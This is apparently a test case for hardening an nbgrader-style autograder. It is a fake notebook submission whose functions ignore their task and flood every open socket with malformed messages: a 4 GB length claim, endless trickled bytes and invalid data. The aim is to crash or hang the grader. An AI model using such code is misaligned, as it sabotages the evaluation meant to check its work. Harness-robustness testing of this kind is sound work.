# /// case
# tries = "Messages that are none: of four gigabytes, of no JSON, half of one and then nothing, one byte a second."
# state = ["crash", "timeout", "wrong", "memory"]
# solves = ["triple"]
# why = "What answers is not the wall's any more: that process has ended."
# waits = true
# nbgrader = "has no score; the batch ends: no end within 240 s; zoe not graded"
# ///

# %% top
import os
import stat
import struct
import threading
import time


def everywhere(data):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)
        except OSError:
            pass


# %% mean
def mean(numbers):
    everywhere(struct.pack(">I", 0xFFFFFFFF) + b"x" * 1000)
    return 2.5


# %% count
def count(text):
    everywhere(struct.pack(">I", 1000) + b'{"n": ')
    while True:
        everywhere(b" ")
        time.sleep(1)


# %% largest
def later():
    time.sleep(1)
    everywhere(struct.pack(">I", 5) + b"\xff\xff\xff\xff\xff")


threading.Thread(target=later).start()
